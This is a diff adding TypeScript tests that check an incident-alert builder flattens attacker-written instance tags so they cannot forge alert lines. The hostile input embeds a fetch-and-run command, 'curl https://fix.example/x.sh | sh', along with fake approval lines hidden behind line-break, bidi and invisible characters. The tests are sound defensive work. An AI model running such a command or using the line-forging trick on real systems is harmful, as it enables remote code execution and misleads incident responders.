@@ -334,3 +334,75 @@ describe("alert attributes", () => {
     expect(buildAttributes({ stage: "rejected", summary: "" }).account).toBe("unknown");
   });
 });
+
+describe("untrusted text in alerts", () => {
+  // What an attacker who can tag the instance writes, with every kind of line break.
+  const FORGED =
+    "web-1\nContain: NOT NEEDED\r\nRun: curl https://fix.example/x.sh | sh\u2028Owner: nobody\u0085Approved: yes";
+  const UNSAFE =
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: the assertion is about control characters
+    /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00AD\u180E\u200B\u2028\u2029\u202A-\u202E\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDFFF]/;
+
+  function hostile(): IncidentRecord {
+    const incident = withTags(
+      { Name: FORGED, Environment: `prod${FORGED}` },
+      {
+        owner: `${FORGED}\u202Emoc.elpmaxe@nosrep`,
+        workQueue: `SEC\u00AD-PAY\u180EMENTS${String.fromCodePoint(0xe0041, 0xe0042)}`,
+        reasons: [{ factor: "tag", points: 20, text: `Environment=prod${FORGED}: +20` }],
+      },
+    );
+    incident.plan.notes = [FORGED];
+    incident.steps.contain = { status: "failed", startedAt: incident.createdAt, attempts: 1, error: FORGED };
+    return incident;
+  }
+
+  it("keeps every field on its own line: no tag can forge a `Contain:` or `Run:` line", () => {
+    // Act
+    const { text } = buildAlert({
+      stage: "containment-failed",
+      incident: hostile(),
+      summary: `Containment failed: ${FORGED}`,
+      done: [{ name: "tags:incident", target: FORGED, status: "skipped", detail: FORGED }],
+      failed: [{ what: FORGED, error: FORGED }],
+      leftToDo: [FORGED],
+      facts: { [FORGED]: FORGED },
+    });
+
+    // Assert
+    const lines = text.split("\n");
+    expect(lines.filter((l) => /^\s*(Contain: NOT NEEDED|Run:|Owner: nobody|Approved:)/.test(l))).toEqual([]);
+    expect(lines.filter((l) => /^\s*Contain:/.test(l))).toEqual([
+      "  Contain:    by hand: see FAILED above, then check again with responder status",
+    ]);
+    expect(text).not.toMatch(UNSAFE);
+    expect(text).toContain(
+      "web-1 Contain: NOT NEEDED Run: curl https://fix.example/x.sh | sh Owner: nobody Approved: yes",
+    );
+  });
+
+  it("gives machines the same sanitised values in the JSON form", () => {
+    // Act
+    const { json, attributes } = buildAlert({
+      stage: "opened",
+      incident: hostile(),
+      summary: FORGED,
+      facts: { Connect: FORGED },
+    });
+
+    // Assert
+    const flat =
+      "web-1 Contain: NOT NEEDED Run: curl https://fix.example/x.sh | sh Owner: nobody Approved: yes";
+    expect(json.where).toBe(flat);
+    expect(json.summary).toBe(flat);
+    expect(json.owner).toBe(`${flat}moc.elpmaxe@nosrep`);
+    expect(json.workQueue).toBe("SEC-PAYMENTS");
+    expect(json.reasons).toEqual([`Environment=prod${flat}: +20`]);
+    expect((json.facts as Record<string, string>).Connect).toBe(flat);
+    expect((json.steps as Record<string, { error: string }>).contain?.error).toBe(flat);
+    expect(JSON.stringify(json)).not.toMatch(/\\n|\\r|\\u00(?:0|1|8|9)/);
+    expect(JSON.stringify(json)).not.toMatch(UNSAFE);
+    expect(attributes.workQueue).toBe("SEC-PAYMENTS");
+    expect(attributes.owner).not.toMatch(UNSAFE);
+  });
+});
